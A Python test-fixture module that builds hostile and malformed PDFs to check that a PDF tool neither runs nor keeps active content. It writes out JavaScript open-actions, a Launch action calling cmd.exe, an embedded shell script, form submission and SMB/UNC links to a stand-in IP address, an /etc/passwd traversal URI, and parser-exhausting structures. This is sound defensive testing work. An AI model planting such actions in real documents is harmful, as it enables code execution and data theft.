"""Hostile PDFs for the tests: active content (for the tests that show none of it runs
or survives), and files built byte by byte that MuPDF finds damaged or too complex."""

from __future__ import annotations

from pathlib import Path

import pymupdf


def hostile_pdf(path: Path, marker: Path) -> Path:
    """Two pages with JavaScript on open and on page 1, a Launch link, a file:// link and
    a web link on page 2, and an attached file; ``marker`` is what they would create."""
    doc = pymupdf.open()
    for n in range(2):
        page = doc.new_page()
        page.insert_text((72, 100), f"Page {n + 1}: a document with active content")
    touch = f"/usr/bin/touch {marker}"
    js = doc.get_new_xref()
    doc.update_object(js, f"<< /S /JavaScript /JS (app.launchURL('file://{marker}'); "
                          f"this.exportDataObject({{cName: 'payload.txt', nLaunch: 2}});) >>")
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{js} 0 R")
    doc.xref_set_key(doc[0].xref, "AA", f"<< /O {js} 0 R >>")
    launch = doc.get_new_xref()
    doc.update_object(launch, f"<< /S /Launch /F ({marker}) /Win << /F (cmd.exe) /P (/c {touch}) >>"
                              " /NewWindow true >>")
    link = doc.get_new_xref()
    doc.update_object(link, f"<< /Type /Annot /Subtype /Link /Rect [72 200 300 230] /A {launch} 0 R"
                            " /Border [0 0 0] >>")
    file_link = doc.get_new_xref()
    doc.update_object(file_link, "<< /Type /Annot /Subtype /Link /Rect [72 250 300 280]"
                                 f" /A << /S /URI /URI (file://{marker}) >> >>")
    web_link = doc.get_new_xref()
    doc.update_object(web_link, "<< /Type /Annot /Subtype /Link /Rect [72 300 300 330]"
                                " /A << /S /URI /URI (https://example.org/nghi-quyet) >> >>")
    doc.xref_set_key(doc[1].xref, "Annots", f"[{link} 0 R {file_link} 0 R {web_link} 0 R]")
    doc.embfile_add("payload.txt", b"#!/bin/sh\ntouch " + str(marker).encode() + b"\n",
                    filename="payload.txt")
    doc.save(path)
    doc.close()
    return path


def raw_pdf(objects: list[bytes], *, tail: bytes = b"") -> bytes:
    """A PDF written byte by byte: ``objects`` are numbered from 1 (1 is the catalog), with
    a correct cross-reference table; ``tail`` is appended after ``%%EOF``."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, start)
    return bytes(out + tail)


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


_TEXT = b"BT /F1 12 Tf 72 700 Td (Nghi quyet so 12) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page_pdf(content: bytes = _TEXT, *, page_extra: bytes = b"", tail: bytes = b""
                 ) -> bytes:
    """One Letter page with ``content`` (by default a line of text in Helvetica)."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources"
                    b" << /Font << /F1 5 0 R >> >> /Contents 4 0 R " + page_extra + b">>",
                    _stream(content), _FONT], tail=tail)


def nested_q_pdf(depth: int = 200_000) -> bytes:
    """A page whose text sits inside ``depth`` nested ``q`` (save graphics state)."""
    return one_page_pdf(b"q " * depth + _TEXT + b" Q" * depth)


def user_unit_pdf(unit: int = 75_000) -> bytes:
    """A Letter page with /UserUnit ``unit``: 612 × ``unit`` points wide."""
    return one_page_pdf(page_extra=b"/UserUnit %d " % unit)


def circular_page_tree_pdf() -> bytes:
    """Two pages counted; the second kid is a /Pages node whose only kid is the root."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources"
                    b" << /Font << /F1 6 0 R >> >> /Contents 5 0 R >>",
                    b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
                    _stream(_TEXT), _FONT])


def negative_count_pdf() -> bytes:
    """A page tree whose /Count is -5: MuPDF raises when asked how many pages there are."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                    _stream(_TEXT)])


def external_links_pdf(path: Path, marker: Path) -> Path:
    """``hostile_pdf`` plus every other way out: GoToR to a UNC path and to a local file,
    GoToE, SubmitForm, ImportData, a URI to smb:, a relative URI, a JavaScript chained
    after a page link (/Next), an outline entry that launches, a rich-media annotation.
    The actions are indirect objects, so that an update merely unlinking them would
    still leave them in the file's bytes."""
    hostile_pdf(path, marker)
    doc = pymupdf.open(path)
    actions = [
        "<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        f"<< /S /GoToR /F ({marker}.pdf) /D [0 /Fit] /NewWindow true >>",
        "<< /S /GoToE /T << /R /C /N (payload.txt) >> >>",
        "<< /S /SubmitForm /F << /FS /URL /F (https://198.51.100.7/thu) >> >>",
        f"<< /S /ImportData /F ({marker}.fdf) >>",
        "<< /S /URI /URI (smb://198.51.100.7/share/x.pdf) >>",
        "<< /S /URI /URI (../../etc/passwd) >>",
        "<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert(1)) >> >>",
    ]
    page = doc[0]
    annots = []
    for n, action in enumerate(actions):
        act = doc.get_new_xref()
        doc.update_object(act, action.replace("3 0 R", f"{page.xref} 0 R"))
        link = doc.get_new_xref()
        y = 150 + 30 * n
        doc.update_object(link, f"<< /Type /Annot /Subtype /Link /Rect [72 {y} 300 {y + 20}]"
                                f" /A {act} 0 R /Border [0 0 0] >>")
        annots.append(f"{link} 0 R")
    media = doc.get_new_xref()
    doc.update_object(media, "<< /Type /Annot /Subtype /RichMedia /Rect [300 600 400 700]"
                             " /RichMediaContent << >> >>")
    annots.append(f"{media} 0 R")
    doc.xref_set_key(page.xref, "Annots", "[" + " ".join(annots) + "]")
    launch = doc.get_new_xref()
    doc.update_object(launch, f"<< /S /Launch /F ({marker}) >>")
    doc.set_toc([[1, "Phụ lục", 1]])
    outline_item = doc.xref_get_key(doc.pdf_catalog(), "Outlines/First")[1].split()[0]
    doc.xref_set_key(int(outline_item), "A", f"{launch} 0 R")
    doc.save(path.with_suffix(".tmp"))
    doc.close()
    path.with_suffix(".tmp").replace(path)
    return path
